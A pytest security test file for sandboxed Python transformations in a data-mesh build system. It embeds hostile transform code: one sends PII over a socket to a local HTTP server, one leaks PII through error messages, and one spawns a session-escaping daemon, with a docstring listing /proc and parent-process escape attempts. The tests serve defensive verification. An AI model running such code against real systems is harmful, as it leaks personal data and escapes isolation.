"""What a hostile review of build isolation (the subprocess executor, the Python
transformation's process) tried: each test is one attack (its docstring) and asserts the
secure behaviour; they failed before the fixes beside them.

What held (tried from a hostile ``transform.py`` under the subprocess executor, Landlock
ABI 7): reading the catalog, the mesh home, the warehouse's Parquet files, ``/``, ``/tmp``,
the product's folder, ``/proc/self/cwd``, ``/proc/<ppid>/{root,fd,cwd,environ,cmdline,
maps,mem}``, ``/proc/1``; re-reading inherited descriptors (only pipes and O_PATH /proc
pins); signalling or ptracing the parent; writing in the product folder, the home,
``/tmp``, beside the scratch folder; a symlink, a hard link to catalog.db, a FIFO or a
rename out of the scratch folder; ``SET threads`` / ``SET memory_limit``, ``glob``,
``read_parquet``, ``read_text`` through ``inputs.sql`` and through ``inputs._connection``;
hidden columns through ``inputs.arrow`` / views (the copy holds only the shown columns);
the hidden or masked values in the process's own memory (/proc/self/mem scan found none);
raising RLIMIT_DATA back up (refused here, though uid 0: no CAP_SYS_RESOURCE);
SQL transformations reading files outside their inputs (refused at validation).
"""

from __future__ import annotations

import http.server
import os
import signal
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parents[1]))
from quanta.mesh import Mesh
from quanta.model.result import Outcome
from test_hostile_seams import (
    SECRETS,
    TARGETS_SQL,
    secret_targets,
    to_python,
    with_report,
)


def _smuggled(tmp_path: Path, workspace: Path, code: str) -> list[str]:
    """Publish sales.report (reading finance.targets, whose names are PII values) with the
    Python ``code``; the secrets its outcome's reason and its build log hold."""
    with Mesh.open(tmp_path / "home", executor="subprocess") as mesh:
        secret_targets(workspace)
        mesh.publish(workspace)
        report = with_report(mesh, workspace)
        to_python(report, code)
        [publication] = mesh.publish(report)
        assert publication.outcome != Outcome.PASSED
        text = (publication.reason or "") + mesh.logs("sales.report").text
    return [secret for secret in SECRETS if secret in text]


NAMES = "    names = [r[0] for r in inputs.sql('SELECT name FROM targets').fetchall()]\n"


def test_returned_port_names_do_not_carry_input_values_into_the_reason_and_log(
    tmp_path: Path, workspace: Path
) -> None:
    """A transformation returns a dict keyed by its input's PII values, and the 'unknown:
    [...]' of the port check quotes them in the outcome's reason and the build log."""
    code = "def build(inputs):\n" + NAMES + "    return {n: inputs['targets'] for n in names}\n"
    assert _smuggled(tmp_path, workspace, code) == []


def test_output_column_names_do_not_carry_input_values_into_the_contract_reason(
    tmp_path: Path, workspace: Path
) -> None:
    """A transformation names its output columns after its input's PII values, and the
    contract check's reason ('column ana@... declared: ...') and the log quote them."""
    code = (
        "def build(inputs):\n" + NAMES + "    cols = ', '.join(f'name AS \"{n}\"' for n in names)\n"
        "    return inputs.sql(f'SELECT id, {cols}, category, amount, updated_at FROM targets')\n"
    )
    assert _smuggled(tmp_path, workspace, code) == []


def test_an_unknown_input_name_does_not_carry_input_values(tmp_path: Path, workspace: Path) -> None:
    """A transformation asks ``inputs[value]`` for one of its input's PII values, and
    UnknownInput's "'ana@...' is not an input" reaches the reason and the log verbatim."""
    code = "def build(inputs):\n" + NAMES + "    return inputs[names[0]]\n"
    assert _smuggled(tmp_path, workspace, code) == []


DAEMON_TRANSFORM = """
import subprocess, time

def build(inputs):
    child = subprocess.Popen(["/usr/bin/sleep", "300"], start_new_session=True)
    time.sleep(0.5)
    sql = %r
    return inputs.sql(sql.replace(" name,", " '%%d' AS name," %% child.pid))
"""


def test_a_process_a_transformation_starts_does_not_outlive_its_build(
    tmp_path: Path, source_product: Path
) -> None:
    """A transformation starts a process in a session of its own (setsid), which escapes
    the kill of the build's process group and PR_SET_PDEATHSIG and outlives the build."""
    to_python(source_product, DAEMON_TRANSFORM % TARGETS_SQL)
    with Mesh.open(tmp_path / "home", executor="subprocess") as mesh:
        [publication] = mesh.publish(source_product)
        assert publication.outcome == Outcome.PASSED, publication.reason
        pid = int(mesh.read("finance.targets").column("name").to_pylist()[0])
    alive = not _ends(pid)
    if alive:
        os.kill(pid, signal.SIGKILL)  # the process this test made the build start
    assert not alive, f"pid {pid} survived the build"


def _ends(pid: int, seconds: float = 60) -> bool:
    """Whether the process ``pid`` is gone (or a zombie: ended, waiting for its reaper)
    within ``seconds``; a generous bound, asserted on only when it is exceeded."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            return True
        if "\nState:\tZ" in status:
            return True
        time.sleep(0.1)
    return False


@pytest.fixture
def listening() -> Iterator[tuple[int, list[str]]]:
    """A real HTTP server on 127.0.0.1: its port and the paths it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *arguments: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_port, asked
    finally:
        server.shutdown()
        server.server_close()


NETWORK_TRANSFORM = """
import socket

def build(inputs):
    names = [r[0] for r in inputs.sql("SELECT name FROM raw_items").fetchall()]
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
            connection.sendall(("GET /" + ",".join(names) + " HTTP/1.0\\r\\n\\r\\n").encode())
            connection.recv(100)
    except OSError:
        pass
    return inputs.sql({sql!r})
"""


def test_a_transformation_cannot_reach_the_network(
    tmp_path: Path, workspace: Path, listening: tuple[int, list[str]]
) -> None:
    """A transformation opens a TCP socket to 127.0.0.1, where an HTTP server listens, and
    sends it its input's PII values (security.md owns up to it: no Landlock net rules)."""
    port, asked = listening
    product = secret_targets(workspace)
    to_python(product, NETWORK_TRANSFORM.format(port=port, sql=TARGETS_SQL))
    with Mesh.open(tmp_path / "home", executor="subprocess") as mesh:
        mesh.publish(product)
    assert asked == []


def test_a_tiny_python_transformation_over_an_input_fits_a_512mb_limit(
    tmp_path: Path, workspace: Path
) -> None:
    """A three-row Python transformation reading one input under a 512MB mesh limit fails
    'the build used more memory than its limit of 512MB' (ArrowBuffer: 2MB): the
    RLIMIT_DATA bound is spent on the runtime's virtual reservations, and the outcome
    names a limit the build's data never came near."""
    with Mesh.open(tmp_path / "home", executor="subprocess", build_memory_limit="512MB") as mesh:
        secret_targets(workspace)
        mesh.publish(workspace)
        report = with_report(mesh, workspace)
        to_python(
            report,
            "def build(inputs):\n"
            "    return inputs.sql('SELECT id, name, category, amount, updated_at FROM targets')\n",
        )
        [publication] = mesh.publish(report)
    assert publication.outcome == Outcome.PASSED, publication.reason
